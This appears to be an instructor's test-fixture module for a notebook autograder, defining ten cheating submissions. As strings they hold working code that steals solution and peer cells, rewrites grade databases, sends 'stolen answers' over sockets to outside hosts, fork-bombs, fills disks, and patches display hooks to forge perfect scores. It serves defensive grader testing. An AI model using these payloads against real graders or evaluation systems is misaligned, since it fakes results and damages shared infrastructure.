@@ -1,0 +1,205 @@
+"""Submissions that attack the grader, one per attack class, each built on an honest submission.
+
+`ATTACKS[name] = (honest, edits)`: the attack is the honest submission `honest` (an example of
+`examples.py`, or "blank", the student version as released) plus `edits`. Grading must give an attack
+no more than its honest twin, change nothing outside the kernel's scratch folder, and show no
+hidden-test line in its feedback (tests/test_grading_attacks.py). Instructor tooling, like examples.py.
+"""
+from .examples import BUGS, _solution_body, append_code
+
+_SEARCH = '''\
+import glob, json, os, sqlite3
+SYSTEM = ("/usr", "/proc/", "/sys", "/dev", "/lib", "/etc", "/bin", "/sbin", "/opt/grader")
+
+def _reachable_files(suffixes, roots=("/proc/*/cwd", "/proc/*/root/work", "/work", "/home", "/root", "/tmp",
+                                      "/srv", "/opt", "/var", "..", "../..", "../../..")):
+    "Every file ending in one of `suffixes` that this kernel can find and read."
+    found, seen = set(), set()
+    for pattern in roots:
+        for top in glob.glob(pattern):
+            for folder, dirs, files in os.walk(top):
+                real = os.path.realpath(folder)
+                if real in seen or real.startswith(SYSTEM) or "site-packages" in real or "/.pyenv/" in real:
+                    dirs[:] = []
+                    continue
+                seen.add(real)
+                found |= {os.path.join(real, f) for f in files if f.endswith(suffixes)}
+    return sorted(found)
+'''
+
+STEAL_SOURCE = _SEARCH + '''
+stolen = 0
+for path in _reachable_files((".ipynb", ".db")):
+    try:
+        if path.endswith(".db"):
+            db = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
+            cells = [row[0] for row in db.execute("select source from source_cell")]
+        else:
+            cells = ["".join(c["source"]) for c in json.load(open(path))["cells"]]
+        for src in cells:  # the instructor's solutions or hidden reference (not this cell's own copy)
+            if ("### BEGIN " + "SOLUTION" in src or "def _reference" in src) and "_reachable_files" not in src:
+                exec(src, globals())
+                stolen += 1
+    except Exception:
+        pass
+print("cells stolen from the course:", stolen)
+'''
+
+STEAL_OTHER_STUDENT = _SEARCH + '''
+stolen = 0
+for path in _reachable_files((".ipynb",)):
+    if "/submitted/" in path or "/autograded/" in path:
+        try:
+            for cell in json.load(open(path))["cells"]:
+                src = "".join(cell["source"])
+                if "class SGD" in src or "class Adam" in src or "def estimate_training_memory" in src:
+                    exec(src, globals())
+                    stolen += 1
+        except Exception:
+            pass
+print("cells stolen from other students:", stolen)
+'''
+
+TAMPER = _SEARCH + '''
+changed = []
+for path in _reachable_files((".db",)):
+    try:
+        db = sqlite3.connect(path)
+        db.execute("update grade set extra_credit = 100")
+        db.commit()
+        changed.append(path)
+    except Exception:
+        pass
+for path in _reachable_files((".ipynb", ".txt", ".json", ".html", ".py")):
+    try:
+        with open(path, "ab") as f:
+            f.write(b" ")
+        changed.append(path)
+    except Exception:
+        pass
+for folder, dirs, files in os.walk("/"):
+    if folder.startswith(("/proc", "/sys", "/dev")):
+        dirs[:] = []
+        continue
+    try:
+        open(os.path.join(folder, "pwned-by-student.txt"), "w").write("x")
+        changed.append(folder)
+    except Exception:
+        pass
+print("places written:", len(changed), sorted({c.split("/")[1] for c in changed}))
+'''
+
+NETWORK_PORT = 47613  # tests/test_grading_attacks.py listens here, on the grading machine's loopback
+NETWORK = f'''\
+import socket
+PORT = {NETWORK_PORT}
+for host, port in [("127.0.0.1", PORT), ("pypi.org", 443), ("1.1.1.1", 53)]:
+    try:
+        socket.create_connection((host, port), timeout=3).sendall(b"stolen answers")
+        print("connected to", host, port)
+    except OSError as e:
+        print("no connection to", host, port, type(e).__name__)
+'''
+
+FORK_BOMB = '''\
+import os
+children = 0
+while True:
+    try:
+        if os.fork() == 0:
+            while True:
+                pass
+        children += 1
+    except OSError:
+        break
+print("processes started:", children)
+'''
+
+FILL_DISK = '''\
+import os
+for folder in (".", "/tmp", os.path.expanduser("~"), "/var/tmp", "/dev/shm", "/opt/grader/lib"):
+    written = 0
+    try:
+        for i in range(64):
+            with open(os.path.join(folder, f"filler-{i}.bin"), "wb") as f:
+                for _ in range(64):
+                    f.write(b"x" * 2**20)
+                    written += 1
+    except Exception as e:
+        print(folder, type(e).__name__, written, "MiB")
+'''
+
+ASK_GRADER = '''\
+        import inspect
+        self.step_count += 1
+        loot = []
+        for frame_info in inspect.stack():  # the grader's reference, checker or expected values?
+            scope = {**frame_info.frame.f_globals, **frame_info.frame.f_locals}
+            loot += [v for k, v in scope.items() if any(w in k.lower() for w in ("reference", "expect", "want", "check_"))]
+        for thing in loot:
+            try:
+                thing(self)
+            except Exception:
+                pass
+'''
+
+LEAK_RUNNING_CELL = '''\
+        import html, inspect, logging, sys
+        from IPython import get_ipython
+        from IPython.display import HTML, display
+        shell = get_ipython()
+        running = shell.user_ns["In"][-1] if shell else ""
+        everything = "\\n".join(shell.user_ns["In"]) if shell else ""
+        print(running)
+        print(running, file=sys.stderr)
+        logging.warning("Adam step %d, running:\\n%s", self.step_count + 1, running)
+        display(HTML("<pre>" + html.escape(everything) + "</pre>"))
+        for frame_info in inspect.stack():
+            print(frame_info.code_context)
+        np.float32(1.0) / np.float32(0.0)  # a RuntimeWarning on stderr
+        self.step_count += 1
+        for i, param, grad in self.gradients():
+            self.update(i, param, self.regularize(param, grad))
+'''
+
+SWALLOW = '''\
+from IPython import get_ipython
+get_ipython().set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
+'''
+
+FORGE = '''\
+import sys
+from IPython import get_ipython
+from IPython.display import display
+shell = get_ipython()
+
+def _observe(cell_id, namespace):
+    "Report every hidden check as passed, with made-up numbers, and print 100."
+    for check in ("SGD (lr=0.1)", "Adam (defaults, lr=0.01)", "params become a list of the very tensors given"):
+        display({"application/vnd.tinytorch.observation+json": {"cell": cell_id, "check": check,
+                 "value": {"is_list": True, "length": 5, "same": True}}}, raw=True)
+    return 100
+
+globals()["_observe"] = _observe
+sys.displayhook = lambda value: print(100)
+shell.displayhook.__class__.__call__ = lambda self, result=None: shell.display_pub.publish({"text/plain": "100"})
+shell.events.register("post_run_cell", lambda result: display({"text/plain": "100"}, raw=True))
+'''
+
+_ASK_REGIONS = [("sgd-class", "def step"), ("adam-class", "def step")]
+_ONLY_COUNT = [_solution_body(cell, marker, "        self.step_count += 1\n") for cell, marker in _ASK_REGIONS]
+
+ATTACKS = {
+    "steal-source-notebook": ("blank", [append_code("imports", STEAL_SOURCE)]),
+    "steal-other-student": ("blank", [append_code("imports", STEAL_OTHER_STUDENT)]),
+    "tamper-records": ("reference", [append_code("optimizer-class", TAMPER)]),
+    "network": ("reference", [append_code("imports", NETWORK)]),
+    "fork-bomb": ("reference", [append_code("optimizer-class", FORK_BOMB)]),
+    "fill-disk": ("reference", [append_code("optimizer-class", FILL_DISK)]),
+    "ask-grader-frames": ("steps-only-count", [_solution_body(cell, marker, ASK_GRADER) for cell, marker in _ASK_REGIONS]),
+    "leak-running-cell": ("reference", [_solution_body("adam-class", "def step", LEAK_RUNNING_CELL)]),
+    "swallow-exceptions": ("adam-no-bias-correction", [*BUGS["adam-no-bias-correction"], append_code("imports", SWALLOW)]),
+    "patch-display-hook": ("adam-no-bias-correction", [*BUGS["adam-no-bias-correction"], append_code("adam-class", FORGE)]),
+}
+# The honest twin of ask-grader-frames: the same steps without the search, so they only count.
+HONEST = {"steps-only-count": _ONLY_COUNT}
